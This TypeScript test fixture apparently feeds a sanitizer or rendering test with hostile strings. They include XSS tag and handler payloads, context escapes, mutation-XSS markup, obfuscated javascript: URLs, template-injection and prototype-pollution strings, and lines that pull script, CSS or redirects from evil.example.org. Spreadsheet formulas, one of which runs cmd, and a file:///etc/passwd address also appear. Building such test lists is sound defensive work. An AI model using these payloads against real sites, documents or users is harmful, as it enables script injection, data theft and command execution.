/** What a script that got through does: it leaves a mark, or opens a dialog. */
const MARK = "window.pwned=1";

const TAGS = [
  "img",
  "svg",
  "body",
  "video",
  "audio",
  "input",
  "details",
  "iframe",
  "marquee",
  "object",
];

const HANDLERS = ["onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationstart"];

/** Every tag with every handler, as people write them who want to be quick. */
const handlers = TAGS.flatMap((tag, row) =>
  HANDLERS.map((handler, column) => {
    const quote = ["", '"', "'"][(row + column) % 3] ?? "";
    const gap = [" ", "/", "\n", "\t"][(row * 2 + column) % 4] ?? " ";
    return `<${tag}${gap}src=x${gap}${handler}=${quote}${MARK}${quote}${gap}autofocus open>`;
  }),
);

/** Ways out of whatever a text may have been put into. */
const escapes = [
  '"',
  "'",
  "`",
  '">',
  "'>",
  "-->",
  "*/",
  "</title>",
  "</textarea>",
  "</style>",
  "</script>",
  "</noscript>",
  "]]>",
  "</template>",
  "</svg>",
  "\\x3c",
  "</option></select>",
].map((way) => `${way}<script>${MARK}</script>`);

const scripts = [
  `<script>${MARK}</script>`,
  `<ScRiPt>${MARK}</sCrIpT>`,
  `<script >${MARK}</script >`,
  `<script\n>${MARK}</script\n>`,
  `<script/x>${MARK}</script>`,
  `<scr<script>ipt>${MARK}</scr</script>ipt>`,
  `<<script>${MARK}//<</script>`,
  `<script src=//evil.example.org/x.js></script>`,
  `<script src="data:text/javascript,${MARK}"></script>`,
  `<script type=module>${MARK}</script>`,
  `<script>/*<!--*/${MARK}/*-->*/</script>`,
  `<svg><script>${MARK}</script></svg>`,
  `<svg><script href="data:,${MARK}"/></svg>`,
  `<math><mtext><script>${MARK}</script>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<template><script>${MARK}</script></template>`,
  `<script\u00a0>${MARK}</script>`,
  `＜script＞${MARK}＜/script＞`,
];

const ADDRESSES = [
  `javascript:${MARK}`,
  `JaVaScRiPt:${MARK}`,
  `java\tscript:${MARK}`,
  `java\nscript:${MARK}`,
  `\u0001javascript:${MARK}`,
  ` javascript:${MARK}`,
  `javascript&colon;${MARK}`,
  `&#106;&#97;vascript:${MARK}`,
  `javascript://%0a${MARK}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>opener.pwned=1</script>`,
  `data:text/html;base64,PHNjcmlwdD5vcGVuZXIucHduZWQ9MTwvc2NyaXB0Pg==`,
  `blob:null/x`,
  `//evil.example.org/x`,
  `https://evil.example.org/?${"a".repeat(60)}`,
  `file:///etc/passwd`,
];

const addresses = [
  ...ADDRESSES,
  ...ADDRESSES.slice(0, 8).map((address) => `<a href="${address}">click</a>`),
  ...ADDRESSES.slice(0, 4).map((address) => `[click](${address})`),
  ...ADDRESSES.slice(0, 4).map((address) => `<form action="${address}"><button>go</button></form>`),
];

/** What becomes markup only when it is read a second time, or by another parser. */
const mutations = [
  `<noscript><p title="</noscript><img src=x onerror=${MARK}>">`,
  `<svg><style><img title="</style><img src=x onerror=${MARK}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${MARK}&gt;">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${MARK} src>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${MARK}>">`,
  `<xmp><p title="</xmp><svg/onload=${MARK}>">`,
  `<listing>&lt;img src=x onerror=${MARK}&gt;</listing>`,
  `<select><iframe></select><img src=x onerror=${MARK}>`,
  `<table><a href="javascript:${MARK}">x</table>`,
  `<b <script>${MARK}</script>0`,
];

const encodings = [
  `&lt;script&gt;${MARK}&lt;/script&gt;`,
  `&#60;script&#62;${MARK}&#60;/script&#62;`,
  `&#x3c;img src=x onerror=${MARK}&#x3e;`,
  `&amp;lt;script&amp;gt;`,
  `%3Cscript%3E${MARK}%3C/script%3E`,
  `%253Cscript%253E`,
  `\\u003cscript\\u003e${MARK}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${MARK}\\x3c/script\\x3e`,
  `+ADw-script+AD4-${MARK}+ADw-/script+AD4-`,
  `&NewLine;&Tab;<img src=x onerror=${MARK}>`,
];

/** Words of template languages and of scripts that are put together from texts. */
const templates = [
  "{{constructor.constructor('window.pwned=1')()}}",
  "{{7*7}}",
  "${7*7}",
  "#{7*7}",
  "<%= 7*7 %>",
  "{%raw%}{{x}}{%endraw%}",
  "{name}",
  "{count}",
  "{{=<% %>=}}",
  "`${window.pwned=1}`",
  "';window.pwned=1;//",
  '";window.pwned=1;//',
  "\\';window.pwned=1;//",
  "</script><script>window.pwned=1//",
  "$&$`$'$1",
  "%s %d %o %c",
];

const styles = [
  `<style>body{display:none}</style>`,
  `<style>@import url(//evil.example.org/x.css)</style>`,
  `<link rel=stylesheet href=//evil.example.org/x.css>`,
  `<div style="background:url(//evil.example.org/x.png)">x</div>`,
  `<div style="position:fixed;inset:0;background:red;z-index:9999">gone</div>`,
  `<p style=animation-name:x onanimationstart=${MARK}>`,
  `<meta http-equiv=refresh content="0;url=//evil.example.org">`,
  `<base href=//evil.example.org/>`,
  `<img src=//evil.example.org/x.png>`,
  `<video poster=//evil.example.org/x.png>`,
  `<object data=//evil.example.org/x.swf></object>`,
  `<embed src=//evil.example.org/x.swf>`,
];

/** Names that mean something to a script or to the document. */
const names = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "innerHTML",
  '<a id=content name=page href="x">x</a>',
  "<form id=page><input name=children></form>",
  "<img name=getElementById>",
  "<p id=navigation>",
  "null",
  "undefined",
  "NaN",
  "[object Object]",
];

/** Letters that change how others look, or cannot be seen. */
const letters = [
  "\u202egpj.exe",
  "\u2066\u202eabc\u2069",
  "safe\u200btext\u200d\u2060",
  "\ufeffbeginning",
  "tag\u{e0041}\u{e0042}",
  "مرحبا بالعالم",
  "שלום <b>עולם</b>",
  "a\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
  "👩‍👩‍👧‍👦🏳️‍🌈",
  "𝕏𝕊𝕊 𝒽ℯ𝓇ℯ",
  "İıſKÅ",
  "\u0085\u2028\u2029lines",
  "a\u0000b",
  "\u001b[31mred\u001b[0m",
  "x".repeat(10_000),
  "😀".repeat(2_000),
];

/** What a spreadsheet would take for a formula. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example.org","x")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  "＝1+1",
];

/** Texts that somebody might write to harm whoever reads them: none may do anything but be read. */
export const PAYLOADS: readonly string[] = [
  ...scripts,
  ...handlers,
  ...escapes,
  ...addresses,
  ...mutations,
  ...encodings,
  ...templates,
  ...styles,
  ...names,
  ...letters,
  ...FORMULAS,
];

/** Those that a database and a provider carry: without NUL. */
export const CARRIED = PAYLOADS.filter((text) => !text.includes("\u0000"));
